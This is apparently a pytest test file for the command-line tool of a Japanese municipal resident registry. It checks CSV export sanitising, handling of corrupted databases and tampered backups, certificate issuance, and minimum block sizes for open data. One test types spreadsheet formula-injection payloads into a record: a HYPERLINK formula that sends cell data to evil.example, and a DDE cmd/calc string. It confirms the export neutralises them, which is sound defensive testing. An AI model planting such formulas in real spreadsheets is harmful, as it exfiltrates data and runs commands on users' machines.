"""Evidence that holds, on the command line (in this process, and as a process of its own where a traceback would
show): a 台帳 CSV a spreadsheet cannot run, a damaged replica said plainly with nothing printed first, a restore
that fails leaving nothing, an output file checked before a 交付 is recorded, and open data never published with
町丁目 small enough to show a resident."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest

from cli.common import EXIT_DAMAGED
from local_store.backup import MAGIC
from local_store.database import DB_FILE
from local_store.registry import Registry
from tests.support.builders import ADMIN, TOWN, Clock, family
from tests.support.cli import TOWN_ARGS, cli
from tests.support.processes import program

KAKARICHO = ("--as", "demo-kakaricho", "--password-stdin")
ADMIN_ARGS = ("--as", "admin", "--password-stdin")
BACKUP_PASSPHRASE = "backup-passphrase-1"


@pytest.fixture
def town(tmp_path: Path) -> Path:
    """A demo town of this test's own, which it may damage or change."""
    data_dir = tmp_path / "replica"
    made = cli(data_dir, "init", "--demo", "60", "--seed", "3")
    assert made.returncode == 0, made.stderr
    return data_dir


def test_the_ledger_csv_neutralises_what_the_counter_typed(town: Path, tmp_path: Path) -> None:
    atena = json.loads(cli(town, "search", "ア", "--json", "--limit", "1").stdout)["results"][0]["atena_no"]
    setai_no = json.loads(cli(town, "show", atena, "--json").stdout)["current"]["setai_no"]
    typed = cli(town, "disaster", "assess", "--household", setai_no, "--damage", "半壊",
                "--cause", '=HYPERLINK("http://evil.example/?"&A1,"詳細")', "--note", "@SUM(1+1)*cmd|' /C calc'!A0")
    assert typed.returncode == 0, typed.stderr
    out = tmp_path / "daicho.csv"
    exported = cli(town, *KAKARICHO, "disaster", "list", "--csv", str(out), stdin="demo\n")
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    mine = [r for r in rows if r["世帯番号"] == setai_no]
    assert [(r["罹災原因"], r["追加記載事項"]) for r in mine] == \
        [('\'=HYPERLINK("http://evil.example/?"&A1,"詳細")', "'@SUM(1+1)*cmd|' /C calc'!A0")]
    assert mine[0]["世帯人員"].isdigit()
    nowhere = cli(town, *KAKARICHO, "disaster", "list", "--csv", str(tmp_path / "missing" / "d.csv"), stdin="demo\n")
    assert nowhere.returncode == 1 and "読み書きできませんでした" in nowhere.stderr and "Traceback" not in nowhere.stderr


# --- a damaged replica ----------------------------------------------------------------------------------------------

def root_page(data_dir: Path, name: str) -> int:
    registry = Registry.open(data_dir, clock=Clock())
    try:
        return int(registry.store.conn.execute("SELECT rootpage FROM sqlite_master WHERE name = ?", (name,))
                   .fetchone()[0])
    finally:
        registry.close()


def test_a_flipped_bit_is_said_plainly_and_nothing_is_printed_first(town: Path) -> None:
    page = root_page(town, "revs")  # no search reads it: before, the results were printed, then a traceback came
    db = town / DB_FILE
    blob = bytearray(db.read_bytes())
    blob[(page - 1) * 4096 + 2000] ^= 0x10
    db.write_bytes(bytes(blob))
    ran = program(town, "search", "ア")
    assert ran.returncode == EXIT_DAMAGED, ran.stderr
    assert ran.stdout == ""
    assert "Traceback" not in ran.stderr
    assert "レプリカのファイルが壊れています" in ran.stderr and "バックアップから復元してください" in ran.stderr
    assert "Error: the replica file registry.db is damaged" in ran.stderr


def test_a_damage_the_page_check_cannot_see_is_said_plainly_too(town: Path) -> None:
    """A file whose pages all pass their HMAC but whose schema points the residents at an index's page (as a
    program holding the key and writing wrongly would leave it): met when it is read, mapped at the door."""
    registry = Registry.open(town, clock=Clock())
    conn = registry.store.conn
    wrong = conn.execute("SELECT rootpage FROM sqlite_master WHERE name = 'staff_events_user'").fetchone()[0]
    conn.execute("PRAGMA writable_schema = ON")
    conn.execute("UPDATE sqlite_master SET rootpage = ? WHERE name = 'persons'", (wrong,))
    conn.execute("PRAGMA writable_schema = OFF")
    registry.close()
    ran = cli(town, "search", "アキ")
    assert ran.returncode == EXIT_DAMAGED, ran.stderr
    assert ran.stdout == "" and "レプリカのファイルが壊れています" in ran.stderr


# --- restore ------------------------------------------------------------------------------------------------------

@pytest.fixture
def backup(tmp_path: Path, clock: Clock) -> Path:
    data_dir = tmp_path / "original"
    registry = Registry.create(data_dir, TOWN, "本庁1", ADMIN, clock=clock)
    admin = registry.sign_in(ADMIN[0], ADMIN[2])
    registry.apply(admin, family())
    out = tmp_path / "town.mdgbak"
    registry.keys.backup(admin, out, BACKUP_PASSPHRASE)
    registry.close()
    return out


def test_a_restore_whose_kit_cannot_be_written_leaves_nothing(backup: Path, tmp_path: Path) -> None:
    before = set(tmp_path.iterdir())
    failed = cli(tmp_path / "copy", "restore", str(backup), "--kit-out", str(tmp_path / "missing" / "kit.pdf"),
                 stdin=f"{BACKUP_PASSPHRASE}\n")
    assert failed.returncode == 2 and "保存先のフォルダがありません" in failed.stderr
    assert set(tmp_path.iterdir()) == before
    done = cli(tmp_path / "copy", "restore", str(backup), "--kit-out", str(tmp_path / "kit.pdf"),
               stdin=f"{BACKUP_PASSPHRASE}\n")
    assert done.returncode == 0, done.stderr
    assert "住民 4 人" in done.stdout and (tmp_path / "kit.pdf").exists()
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_a_backup_whose_header_was_changed_is_refused(backup: Path, tmp_path: Path) -> None:
    blob = backup.read_bytes()
    end = blob.index(b"\n", len(MAGIC))
    header = json.loads(blob[len(MAGIC):end])
    header["terminal"] = "偽の端末"
    backup.write_bytes(blob[:len(MAGIC)] + json.dumps(header, ensure_ascii=False).encode() + blob[end:])
    refused = cli(tmp_path / "copy", "restore", str(backup), stdin=f"{BACKUP_PASSPHRASE}\n")
    assert refused.returncode == 1 and "改ざん" in refused.stderr
    assert not (tmp_path / "copy").exists()


def test_init_never_overwrites_a_file_already_in_the_folder(tmp_path: Path) -> None:
    data_dir = tmp_path / "replica"
    data_dir.mkdir()
    (data_dir / DB_FILE).write_bytes(b"")
    refused = cli(data_dir, "init", *TOWN_ARGS, "--kit-out", str(tmp_path / "kit.pdf"), stdin=f"{ADMIN[2]}\n")
    assert refused.returncode == 1 and DB_FILE in refused.stderr
    assert sorted(p.name for p in data_dir.iterdir()) == [DB_FILE] and not (tmp_path / "kit.pdf").exists()


# --- output files and open data -------------------------------------------------------------------------------------

def test_a_certificate_for_a_missing_folder_is_refused_before_the_koufu_is_recorded(
        tmp_path: Path, clock: Clock) -> None:
    data_dir = tmp_path / "replica"
    registry = Registry.create(data_dir, TOWN, "本庁1", ADMIN, clock=clock)
    taro = registry.apply(registry.sign_in(ADMIN[0], ADMIN[2]), family()).idou.rows[0].row.atena_no
    registry.close()
    request = ("certificate", taro, "--kind", "juminhyo", "--identification", "運転免許証", "--requester", "honnin",
               "--requester-atena", taro)
    refused = cli(data_dir, *ADMIN_ARGS, *request, "--out", str(tmp_path / "missing" / "c.pdf"),
                  stdin=f"{ADMIN[2]}\n")
    assert refused.returncode == 2 and "保存先のフォルダがありません" in refused.stderr
    registry = Registry.open(data_dir, clock=clock)
    try:
        admin = registry.sign_in(ADMIN[0], ADMIN[2])
        assert registry.kofu.history(admin, taro) == []
        assert registry.daily.report(admin, clock.now.date()).fee == 0
    finally:
        registry.close()
    issued = cli(data_dir, *ADMIN_ARGS, *request, "--out", str(tmp_path / "c.pdf"), stdin=f"{ADMIN[2]}\n")
    assert issued.returncode == 0, issued.stderr


@pytest.mark.parametrize("min_area", ["0", "-5", "2"])
def test_open_data_never_publishes_a_town_block_of_fewer_than_three(demo: Path, tmp_path: Path, min_area: str) -> None:
    out = tmp_path / "population.csv"
    refused = cli(demo, *KAKARICHO, "export-opendata", "--as-of", "R8.11.1", "--out", str(out), "--min-area", min_area,
                  stdin="demo\n")
    assert refused.returncode == 2 and "3人以上にしてください" in refused.stderr and not out.exists()


def test_open_data_with_the_lowest_minimum_and_an_output_folder_checked_first(demo: Path, tmp_path: Path) -> None:
    out = tmp_path / "population.csv"
    done = cli(demo, *KAKARICHO, "export-opendata", "--as-of", "R8.11.1", "--out", str(out), "--min-area", "3",
               stdin="demo\n")
    assert done.returncode == 0, done.stderr
    lines = out.read_text(encoding="utf-8").splitlines()
    assert all(int(line.split(",")[5]) >= 3 for line in lines[2:])
    nowhere = cli(demo, *KAKARICHO, "export-opendata", "--as-of", dt.date(2026, 11, 1).isoformat(), "--out",
                  str(tmp_path / "missing" / "p.csv"), stdin="demo\n")
    assert nowhere.returncode == 2 and "保存先のフォルダがありません" in nowhere.stderr
